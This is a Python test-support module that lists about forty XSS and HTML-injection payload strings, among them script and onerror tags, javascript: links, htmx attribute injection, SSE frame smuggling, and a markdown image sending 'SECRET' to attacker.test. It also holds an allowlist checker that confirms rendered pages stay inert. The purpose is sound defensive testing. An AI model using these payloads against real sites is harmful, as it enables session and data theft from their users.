"""Hostile strings for every place untrusted text reaches the page.

Each payload is fed, by the tests that import this module, as completion tokens, as alternative
tokens and as prompts (tests/test_hostile.py); as session names, saved prompts and parameters,
recorded runs, and through the sessions list, history, share pages, the team gallery and an
export/import round trip (tests/test_hostile_sessions.py); and in a real browser
(tests/test_browser_security.py). Places added later should import `PAYLOADS` and
`assert_inert` and run the same checks: the markup must hold no injected element or attribute,
and the payload must still be visible as text.

`visible(payload)` is the text a reader should see: NUL and lone surrogates cannot be shown (or
even encoded) and become U+FFFD, one character for one.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss=1;alert(1)</script>",
    "script-upper": "<SCRIPT SRC=/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quotes": '"><img src=x onerror="window.__xss=1">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "iframe-src": "<iframe src=/x></iframe>",
    "object": '<object data="/x"></object><embed src="/x">',
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a-data-case": '<a href="DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "markdown-link-javascript": "[x](javascript:alert(1))",
    "markdown-link-javascript-case": "[x](JaVaScRiPt:alert(1))",
    "markdown-image-offsite": "![a](https://attacker.test/p.png?d=SECRET)",
    "markdown-image-data": "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "htmx-post-load": '<button hx-post="/x" hx-trigger="load">x</button>',
    "htmx-get-load": '<div hx-get="/x" hx-trigger="load" hx-swap="outerHTML">x</div>',
    "htmx-data-prefix": '<div data-hx-get="/x" data-hx-trigger="load">x</div>',
    "htmx-on": '<div hx-on:click="alert(1)" hx-on::load="alert(1)">x</div>',
    "htmx-oob": '<div id="status" hx-swap-oob="true"><img src=x onerror=alert(1)></div>',
    "close-script-in-json": "</script><script>window.__xss=1</script>",
    "close-script-comment": "<!--</script><script>alert(1)//-->",
    "attribute-double-quote": '" onmouseover="alert(1)" x="',
    "attribute-single-quote": "' onfocus='alert(1)' autofocus '",
    "attribute-backtick": "` onclick=`alert(1)`",
    "style-injection": "<style>*{background:url(/x)}</style>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=/x">',
    "base-href": '<base href="https://attacker.test/">',
    "form-action": '<form action="/x"><button formaction="/x">go</button></form>',
    "template-shadow": '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
    "entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;",
    "sse-frame": "\n\ndata: <img src=x onerror=alert(1)>\n\nevent: done\ndata: {}\n\n",
    "carriage-return": "a\rdata: <script>alert(1)</script>\r\r",
    "line-separator": "a\u2028b\u2029c</script>",
    "nul": "a\x00<script>alert(1)</script>\x00b",
    "lone-surrogate": "x\ud800y\udfffz",
    "rtl-override": "\u202egnp.exe<b>x</b>",
    "long-token": "<" + "A" * 20_000 + ">" + "B" * 20_000,
    "unicode-tag": "<\uff53cript>alert(1)</\uff53cript>",
}

_UNRENDERABLE = re.compile("[\x00\ud800-\udfff]")


def visible(payload: str) -> str:
    """The text a reader sees for `payload` (one U+FFFD for each NUL or lone surrogate)."""
    return _UNRENDERABLE.sub("\ufffd", payload)


# What our own fragments and page use. Anything else was injected.
ALLOWED_TAGS = {
    "html", "head", "body", "meta", "title", "link", "script", "header", "h1", "h2", "p",
    "main", "form", "section", "div", "label", "textarea", "span", "button", "kbd", "aside",
    "select", "option", "input", "fieldset", "legend", "code", "pre", "dl", "dt", "dd",
    "strong", "ol", "li", "output", "optgroup", "ul", "a", "nav", "h3", "details", "summary",
    "table", "thead", "tbody", "tr", "th", "td", "time", "mark", "article",
    "svg", "line", "polyline",  # the confidence chart (playground/overview.py)
}  # fmt: skip
# Our own routes an element may point at (the page's links and forms).
OWN_URLS = (
    "/generate", "/tokens", "/backends/status", "/draft", "/code", "/history", "/sessions/",
    "/runs/", "/team/", "/share/", "/accounts/", "/admin/", "?run=", "/compare/", "/diff/",
)  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcdoc", "action", "formaction", "data", "poster", "xlink:href"}


class Inventory(HTMLParser):
    """Every element with its attributes, and the text outside <script> and <textarea>."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.textarea: list[str] = []
        self._raw: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag in {"script", "textarea", "style"}:
            self._raw = tag

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw == "textarea":
            self.textarea.append(data)
        elif self._raw is None:
            self.text.append(data)


def assert_inert(html: str, baseline: str | None = None) -> Inventory:
    """No element or attribute in `html` that our templates would not write.

    With `baseline` (the same page rendered with a harmless string), the elements must be
    exactly the baseline's: nothing added, nothing moved.
    """
    found = Inventory(html)
    for tag, attrs in found.elements:
        assert tag in ALLOWED_TAGS, f"injected <{tag}>"
        if tag == "script":
            assert (
                attrs.get("type") == "application/json"
                or set(attrs) == {"src", "defer"}
                or attrs == {"src": "/static/playground/theme.js"}
            ), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), f"injected {name}= on <{tag}>"
            assert (
                name not in URL_ATTRIBUTES
                or value == "/"
                or (value or "").startswith(("/static/", *OWN_URLS))
            ), f"injected {name}={value!r} on <{tag}>"
            assert not name.startswith("data-hx"), f"injected {name} on <{tag}>"
            if name.startswith("hx-"):
                assert name in {"hx-swap-oob", "hx-post", "hx-get", "hx-target", "hx-swap",
                                "hx-sync", "hx-trigger", "hx-include", "hx-ignore", "hx-headers:inherited"}, (
                    f"injected {name}"
                )  # fmt: skip
    if baseline is not None:
        expected = [(tag, sorted(attrs)) for tag, attrs in Inventory(baseline).elements]
        assert [(tag, sorted(attrs)) for tag, attrs in found.elements] == expected
    return found
